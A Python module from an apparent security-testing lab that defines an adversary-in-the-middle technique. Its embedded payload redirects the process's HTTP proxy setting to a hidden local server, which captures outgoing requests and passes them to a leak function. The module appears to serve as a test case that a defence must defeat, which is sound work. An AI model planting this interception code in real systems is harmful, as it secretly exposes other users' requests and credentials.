"""Sets a proxy variable to its own proxy, a thread that reads the data."""

from __future__ import annotations

from dayfly.lab.gauntlet.evidence import Cards
from dayfly.lab.gauntlet.technique import Technique

PLANT = r"""
import threading
server = socket.create_server(("127.0.0.1", 0))
os.environ["http_proxy"] = "http://127.0.0.1:%d" % server.getsockname()[1]
def serve():
    while True:
        client = server.accept()[0]
        data = client.recv(65536)
        while data and not data.rstrip().split(b"\r\n")[-1].startswith(b"4"):
            more = client.recv(65536)
            data = data + more if more else b""
        leak(data[-4000:])
        client.sendall(b"HTTP/1.1 503 Later\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        client.close()
threading.Thread(target=serve, daemon=True).start()
"""

TECHNIQUE = Technique(
    level="L2",
    attack=("T1557",),
    family="M14",
    must_fail_to="read a later customer's request to a partner",
    plant=PLANT,
    evidence=Cards(),
    handler="proxied.handler",
)
